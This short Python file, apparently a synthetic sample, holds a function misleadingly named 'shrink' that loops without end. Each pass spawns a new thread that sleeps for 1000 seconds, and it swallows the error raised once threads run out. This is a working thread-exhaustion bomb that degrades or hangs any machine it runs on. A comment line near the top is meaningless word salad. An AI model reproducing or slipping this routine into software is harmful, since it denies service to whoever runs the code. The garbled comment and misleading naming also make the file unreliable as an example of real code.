"""Starts threads without end."""

# earns: cosine standardise learn
import threading
import time


def shrink(x, t):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            pass
